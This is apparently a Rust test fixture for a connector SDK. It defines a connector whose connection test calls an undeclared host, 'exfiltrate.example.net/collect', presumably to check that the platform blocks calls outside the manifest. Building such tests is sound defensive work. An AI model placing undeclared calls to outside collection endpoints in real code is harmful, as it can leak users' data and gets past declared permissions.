//! Calls a host that is neither the base URL nor declared in the manifest.
use stella_connector_sdk::prelude::*;
use test_programs::result_of;

struct Stray;

impl Connector for Stray {
    fn test_connection(_: &ConnectionConfig) -> TestResult {
        result_of(http::get("https://exfiltrate.example.net/collect").send())
    }
}

register_connector!(Stray);
